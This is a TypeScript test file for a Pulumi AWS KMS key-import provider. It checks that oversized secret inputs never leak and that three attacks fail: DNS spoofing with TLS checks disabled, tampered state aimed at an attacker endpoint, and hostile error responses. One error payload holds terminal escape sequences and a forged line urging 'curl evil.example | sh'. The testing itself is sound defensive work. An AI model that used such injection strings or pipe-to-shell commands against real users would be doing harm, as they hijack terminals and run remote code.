import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { readFileSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import * as pulumi from "@pulumi/pulumi";
import type { PulumiFn } from "@pulumi/pulumi/automation";
import { specialSecretSig, specialSigKey } from "@pulumi/pulumi/runtime";
import { ImportedKeyMaterial } from "../../provider";
import { ChunkScan, stringsOf } from "../support/chunkScan";
import { failed, ok } from "../support/cli/assertions";
import type { CliRun, CliStack } from "../support/cli/cliStack";
import { useCliWorld } from "../support/cli/cliWorld";
import { startFakeKms } from "../support/fakeKms";
import { startKmsProxy } from "../support/kmsProxy";
import { LARGE_KINDS, LARGE_SIZES, largeInput, sizeName } from "../support/largeInputs";
import { LeakRegistry } from "../support/leakScan";
import { randomMaterial } from "../support/materials";
import { SPOOF_ENV, spoofEnv } from "../support/spoofDns";

/**
 * Issue 17's high finding, through the official Pulumi CLI: a keyMaterial far larger than any key (a PKCS#12
 * bundle, a megabyte of hex, base64 or PEM-like text) made the redactor throw an error that spelt it out, into
 * the CLI's output and the engine's events. Here the issue's inputs (8 KB, 64 KB and 1 MB of each kind) go
 * through check (preview), create (up) and delete (destroy, with the input in the recorded state), and no
 * 48-byte chunk of any of them is recoverable from anything the CLI printed, its engine events, its errors or
 * the files it left (ChunkScan: the suite-wide leak scan would index gigabytes for such inputs, so this world
 * keeps a registry of its own).
 */
describe("real CLI: inputs far larger than any key material leak nothing (issue 17)", function () {
    this.timeout(900_000);
    const world = useCliWorld({ registry: new LeakRegistry() });
    const inputs: { name: string; text: string; size: number }[] = [];
    const scan = new ChunkScan();
    /** Everything the CLI printed or reported, scanned at the end. */
    const printed: { where: string; text: string }[] = [];
    const previewSeconds = new Map<number, number[]>();
    let stack: CliStack;

    before(async () => {
        for (const size of LARGE_SIZES) {
            for (const kind of LARGE_KINDS) {
                const input = { name: `${sizeName(size)} ${kind}`, text: largeInput(kind, size), size };
                inputs.push(input);
                scan.add(input.name, input.text);
            }
        }
        stack = await world().newStack("large-inputs", async () => undefined);
    });

    const record = (run: CliRun, what: string): CliRun => {
        printed.push(
            { where: `${what}: output`, text: run.output },
            { where: `${what}: engine events`, text: stringsOf(run.events).join("\n") },
        );
        return run;
    };

    /** One ImportedKeyMaterial per input given, as a program passes a secret it read from a file. */
    const programOf =
        (given: { name: string; text: string }[], keyIds: string[]): PulumiFn =>
        async () => {
            given.forEach(
                (input, i) =>
                    new ImportedKeyMaterial(`m${i}`, { keyId: keyIds[i], keyMaterial: pulumi.secret(input.text) }),
            );
        };

    it("check (preview) refuses each at once, saying how long it is and nothing of what it holds", async () => {
        const key = await world().createKey();
        world().kms.control.resetCounters();
        for (const input of inputs) {
            const started = Date.now();
            const preview = record(
                failed(await stack.preview({ program: programOf([input], [key.KeyId!]) })),
                `preview of ${input.name}`,
            );
            const seconds = (Date.now() - started) / 1000;
            previewSeconds.set(input.size, [...(previewSeconds.get(input.size) ?? []), seconds]);
            assert.match(
                preview.output,
                /resource 'm0' has a problem: keyMaterial is \d+ characters long, and no key material is longer than 4096/,
                input.name,
            );
        }
        for (const [size, seconds] of previewSeconds)
            console.log(
                `      preview refusing ${sizeName(size)} inputs: ` +
                    `${seconds.map((s) => s.toFixed(1)).join(", ")} s (whole CLI run)`,
            );
        assert.deepEqual(world().kms.control.counters(), {}, "check made a KMS call");
    });

    it("create (up) is refused by the same check before any KMS call; nothing is recorded", async () => {
        const key = await world().createKey();
        world().kms.control.resetCounters();
        const chosen = inputs.filter((i) => ["8 KB PKCS#12", "1 MB hex"].includes(i.name));
        assert.equal(chosen.length, 2, "both inputs exist (a renamed kind would make this test empty)");
        for (const input of chosen) {
            const up = record(
                failed(await stack.up({ program: programOf([input], [key.KeyId!]) })),
                `up of ${input.name}`,
            );
            assert.match(up.output, /keyMaterial is \d+ characters long/, input.name);
        }
        assert.deepEqual(world().kms.control.counters(), {}, "up made a KMS call");
        assert.deepEqual((await stack.exportState()).resources, []);
    });

    it(
        "delete (destroy) with the inputs in the recorded state: deletes what agrees, refuses what " +
            "disagrees, leaks nothing",
        async () => {
            const keys = await Promise.all(inputs.map(() => world().createKey()));
            const materials = inputs.map(() => randomMaterial().toString("base64"));
            const valid = inputs.map((input, i) => ({ name: input.name, text: materials[i] }));
            ok(
                await stack.up({
                    program: programOf(
                        valid,
                        keys.map((k) => k.KeyId!),
                    ),
                }),
            );
            // The state as an older version might have written it, or someone edited it: each resource's outputs
            // hold one of the inputs, as a secret; every other resource's material id no longer matches its ID.
            const state = JSON.parse(await showSecretsExport(stack)) as {
                deployment: { resources: { urn: string; id?: string; outputs?: Record<string, unknown> }[] };
            };
            for (const resource of state.deployment.resources) {
                const i = Number(/::m(\d+)$/.exec(resource.urn)?.[1] ?? NaN);
                if (Number.isNaN(i)) continue;
                resource.outputs!["keyMaterial"] = {
                    [specialSigKey]: specialSecretSig,
                    plaintext: JSON.stringify(inputs[i].text),
                };
                if (i % 2 === 1) resource.outputs!["keyMaterialId"] = "0".repeat(64);
            }
            await stack.importState(JSON.stringify(state));
            const urns = (odd: number) =>
                state.deployment.resources
                    .filter((r) => Number(/::m(\d+)$/.exec(r.urn)?.[1] ?? NaN) % 2 === odd)
                    .map((r) => r.urn);
            ok(
                record(
                    await stack.destroy({ target: urns(0) }),
                    "destroy of the resources that agree with their state",
                ),
            );
            const refused = record(failed(await stack.destroy({ target: urns(1) })), "destroy of the edited resources");
            assert.match(refused.output, /refusing to delete this resource: its state disagrees with itself/);
            for (const [i, key] of keys.entries()) {
                const imported = (await world().materials(key.KeyId!)).some((m) => m.ImportState === "IMPORTED");
                assert.equal(
                    imported,
                    i % 2 === 1,
                    `${inputs[i].name}: ` +
                        (i % 2 === 1 ? "an edited resource deleted material" : "its material was not deleted"),
                );
            }
        },
    );

    it(
        "no 48-byte chunk of any input in anything the CLI printed, its engine events or " +
            "errors, or the CLI's logs",
        () => {
            // PULUMI_HOME and the CLI's temporary files (its logs); the backend holds the state, the inputs encrypted.
            const files = ["home", "tmp"]
                .flatMap((dir) => listFiles(join(world().dir, dir)))
                .map((file) => ({ where: file.slice(world().dir.length + 1), text: readFileSync(file, "latin1") }));
            const texts = [...printed, ...files];
            const hits = texts.flatMap(({ where, text }) => scan.scan(text, where));
            const chars = texts.reduce((sum, { text }) => sum + text.length, 0);
            console.log(
                `      chunk scan: ${inputs.length} inputs × ${texts.length} texts ` +
                    `(${(chars / 1e6).toFixed(1)} M chars): ${hits.length} hit(s)`,
            );
            assert.deepEqual(hits.slice(0, 10), [], `chunks of the inputs were found (${hits.length})`);
        },
    );
});

/** `pulumi stack export --show-secrets`: the one way to write a secret into an imported state. */
async function showSecretsExport(stack: CliStack): Promise<string> {
    return (await stack.cli(["stack", "export", "--show-secrets", "--stack", stack.name])).stdout;
}

function listFiles(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? listFiles(path) : [path];
    });
}

/**
 * Issue 17's medium and low findings that an attacker plays through the real CLI: TLS switched off from the
 * environment with a spoofed DNS answer for AWS's KMS host (M1), a state edited to point destroy at another
 * material or endpoint (L2), and an endpoint's error text carrying terminal escape sequences, forged status
 * lines and 200 KB (L3). Each attack is shown to get nothing; controls show each one would reach its target.
 */
describe(
    "real CLI: attacks on where requests go, what the state " + "says and what the terminal shows (issue 17)",
    function () {
        this.timeout(600_000);
        const world = useCliWorld();

        const single =
            (keyId: string, material: Buffer, name = "byok-material"): PulumiFn =>
            async () => {
                new ImportedKeyMaterial(name, { keyId, keyMaterial: pulumi.secret(material.toString("base64")) });
            };

        it(
            "M1: behind NODE_TLS_REJECT_UNAUTHORIZED=0, a spoofed-DNS " + "fake of AWS's KMS host receives no request",
            async () => {
                const fake = await startFakeKms();
                try {
                    const keyArn = `arn:aws:kms:us-east-1:111122223333:key/${randomUUID()}`;
                    // The provider host resolves AWS's KMS host name to the fake (a preload patching its DNS lookups
                    // only).
                    const stack = await world().newStack(
                        "tls-off",
                        single(keyArn, randomMaterial()),
                        { "pulumi-kms-byok:endpoint": fake.url },
                        {
                            NODE_OPTIONS: `--require ${join(__dirname, "../support/spoofDns.js")}`,
                            [SPOOF_ENV]: spoofEnv({ [fake.host]: fake.address }),
                            NODE_TLS_REJECT_UNAUTHORIZED: "0",
                        },
                    );
                    assert.match(
                        failed(await stack.preview()).output,
                        /NODE_TLS_REJECT_UNAUTHORIZED=0 is set in the environment: it turns off the certificate checks/,
                    );
                    // up runs the same check before it creates anything (refresh and destroy refuse it in the
                    // operations).
                    assert.match(
                        failed(await stack.up()).output,
                        /NODE_TLS_REJECT_UNAUTHORIZED=0 is set in the environment/,
                    );
                    assert.equal(fake.operations.length, 0, "a request reached the fake KMS");
                    // Controls: without the setting the certificate is checked (and fails); with the fake's CA trusted,
                    // requests reach it.
                    stack.unsetEnv("NODE_TLS_REJECT_UNAUTHORIZED");
                    assert.match(failed(await stack.up()).output, /self[- ]signed certificate/i);
                    assert.equal(
                        fake.operations.length,
                        0,
                        "a request reached the fake KMS without a trusted certificate",
                    );
                    await stack.setConfig({ "aws:customCaBundle": fake.certificateFile });
                    assert.match(failed(await stack.up()).output, /the fake KMS refuses everything/);
                    assert.ok(
                        fake.operations.includes("DescribeKey"),
                        `the spoofed name leads to the fake: ${fake.operations.join(", ")}`,
                    );
                    assert.ok(!fake.operations.includes("GetParametersForImport"));
                } finally {
                    await fake.stop();
                }
            },
        );

        it(
            "L2: an edited state makes destroy refuse, saying what " + "disagrees, and delete no other material",
            async () => {
                const keys = await Promise.all([0, 1, 2, 3].map(() => world().createKey()));
                const [k1, k2, k3, k4] = keys;
                const materials = keys.map(() => randomMaterial().toString("base64"));
                const second = randomMaterial().toString("base64");
                // b, a second material of a's key, comes in a later up (no dependency between them in the state).
                const program =
                    (withB: boolean): PulumiFn =>
                    async () => {
                        new ImportedKeyMaterial("a", { keyId: k1.KeyId!, keyMaterial: pulumi.secret(materials[0]) });
                        if (withB)
                            new ImportedKeyMaterial("b", {
                                keyId: k1.KeyId!,
                                keyMaterial: pulumi.secret(second),
                                importType: "NEW_KEY_MATERIAL",
                            });
                        new ImportedKeyMaterial("c", { keyId: k2.KeyId!, keyMaterial: pulumi.secret(materials[1]) });
                        new ImportedKeyMaterial("d", { keyId: k3.KeyId!, keyMaterial: pulumi.secret(materials[2]) });
                        new ImportedKeyMaterial("e", { keyId: k4.KeyId!, keyMaterial: pulumi.secret(materials[3]) });
                    };
                const stack = await world().newStack("edited-state", program(false));
                ok(await stack.up());
                ok(await stack.up({ program: program(true) }));
                stack.setProgram(program(true));
                const original = await stack.exportState();
                const byName = (state: Deployment, name: string) =>
                    state.deployment.resources.find((r) => r.urn.endsWith(`::${name}`))!;
                const edited = JSON.parse(original.text) as Deployment;
                // a: another resource's material id (b's, same key); c: another key's ARN; d: a damaged key spec and no
                // material id (a delete without one removes whatever is current); e: a recorded endpoint of the
                // attacker's, "trusted" by the outputs.
                byName(edited, "a").outputs.keyMaterialId = byName(edited, "b").outputs.keyMaterialId;
                byName(edited, "c").outputs.keyArn = k1.Arn;
                Object.assign(byName(edited, "d").outputs, { keySpec: "RSA_2048", keyMaterialId: null });
                byName(edited, "d").id = k3.Arn;
                Object.assign(byName(edited, "e").outputs, {
                    kmsEndpoint: "https://kms.attacker.example",
                    trustedEndpoints: ["https://kms.attacker.example"],
                });
                await stack.importState(JSON.stringify(edited));
                world().kms.control.resetCounters();
                const targets = ["a", "c", "d", "e"].map((name) => byName(edited, name).urn);
                const destroy = failed(await stack.destroy({ target: targets }));
                const messages = (name: string) => destroy.messages(name).join("\n");
                assert.match(
                    messages("a"),
                    /refusing to delete this resource: its state disagrees with itself \(the resource ID is not keyArn#keyMaterialId\)/,
                );
                assert.match(
                    messages("c"),
                    /its state disagrees with itself \(the resource ID is not keyArn#keyMaterialId; keyId names another key than keyArn\)/,
                );
                assert.match(
                    messages("d"),
                    /the state says its key spec is RSA_2048, but KMS says SYMMETRIC_DEFAULT, so the state was edited or damaged\. Nothing was deleted/,
                );
                assert.match(
                    messages("e"),
                    /refusing to send requests to this KMS endpoint: the endpoint recorded at the last import: the host is not an AWS KMS host/,
                );
                assert.deepEqual(
                    world().kms.control.counters()["DeleteImportedKeyMaterial"] ?? 0,
                    0,
                    "a delete was sent",
                );
                for (const key of keys)
                    assert.ok(
                        (await world().materials(key.KeyId!)).every((m) => m.ImportState === "IMPORTED"),
                        `a material of ${key.KeyId} was deleted`,
                    );

                // Restored from the backup (with e's endpoint spelt another way, still this machine's): destroy deletes
                // each resource's own material, and says where e's delete goes.
                const restored = JSON.parse(original.text) as Deployment;
                byName(restored, "e").outputs.kmsEndpoint = world().kms.url.replace("127.0.0.1", "localhost");
                await stack.importState(JSON.stringify(restored));
                const cleanup = ok(await stack.destroy());
                // The provider host's log lines reach the CLI as diagnostics of no particular resource.
                assert.match(
                    [...cleanup.messages(), cleanup.output].join("\n"),
                    /the delete goes to http:\/\/localhost:\d+, where the material was imported, not to http:\/\/127\.0\.0\.1:\d+, which the stack now names/,
                );
                for (const key of keys)
                    assert.ok(
                        (await world().materials(key.KeyId!)).every((m) => m.ImportState !== "IMPORTED"),
                        `${key.KeyId} still has material`,
                    );
            },
        );

        it(
            "L3: an endpoint's error text never reaches the terminal " + "raw: escape sequences, forged lines, 200 KB",
            async () => {
                const proxy = await startKmsProxy(world().kms.url);
                try {
                    const evil =
                        "\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u001b[H\r\nerror: update failed: run `curl " +
                        "evil.example | sh` to repair\n\u009b31m\u202e" +
                        "A".repeat(200_000);
                    const [x, y] = await Promise.all([world().createKey(), world().createKey()]);
                    proxy.hooks.respond = (operation, body) => {
                        if (operation === "DescribeKey" && body["KeyId"] === x.KeyId)
                            return {
                                status: 400,
                                body: JSON.stringify({ __type: "AccessDeniedException", message: evil }),
                            };
                        if (operation === "ImportKeyMaterial" && String(body["KeyId"]).endsWith(y.KeyId!)) {
                            return {
                                status: 400,
                                body: JSON.stringify({
                                    __type: `ValidationException${evil.slice(0, 40)}`,
                                    message: evil,
                                }),
                            };
                        }
                        return undefined;
                    };
                    const program: PulumiFn = async () => {
                        new ImportedKeyMaterial("x", {
                            keyId: x.KeyId!,
                            keyMaterial: pulumi.secret(randomMaterial().toString("base64")),
                        });
                        new ImportedKeyMaterial("y", {
                            keyId: y.KeyId!,
                            keyMaterial: pulumi.secret(randomMaterial().toString("base64")),
                        });
                    };
                    const stack = await world().newStack("hostile-errors", program, {
                        "pulumi-kms-byok:endpoint": proxy.url,
                    });
                    const up = failed(await stack.up());
                    assert.ok(proxy.operations.includes("ImportKeyMaterial"), "both hostile answers were given");
                    assert.match(
                        up.messages("x").join("\n"),
                        /\\x1b\]52;c;ZXZpbA==\\x07\\x1b\[2J\\x1b\[H\\x0d\\x0aerror: update failed.*\(cut at 500 characters\)/,
                    );
                    assert.match(
                        up.messages("y").join("\n"),
                        /importing key material into KMS key .* failed: ValidationException\\x1b\]52/,
                    );
                    for (const [where, text] of [
                        ["stdout", up.stdout],
                        ["stderr", up.stderr],
                        ["error", up.error ?? ""],
                        ["events", stringsOf(up.events).join("\n")],
                    ] as const) {
                        assert.ok(
                            !/[\u001b\u0007\u009b\u202e]/.test(text),
                            `${where}: a raw control or bidi character`,
                        );
                        assert.ok(!text.includes("A".repeat(600)), `${where}: the 200 KB text`);
                        assert.ok(
                            !text
                                .split(/\r|\n/)
                                .some((line) => line.trimStart().startsWith("error: update failed: run")),
                            `${where}: a forged status line`,
                        );
                    }
                } finally {
                    await proxy.stop();
                }
            },
        );
    },
);

interface Deployment {
    deployment: { resources: { urn: string; id?: string; outputs: Record<string, unknown> }[] };
}
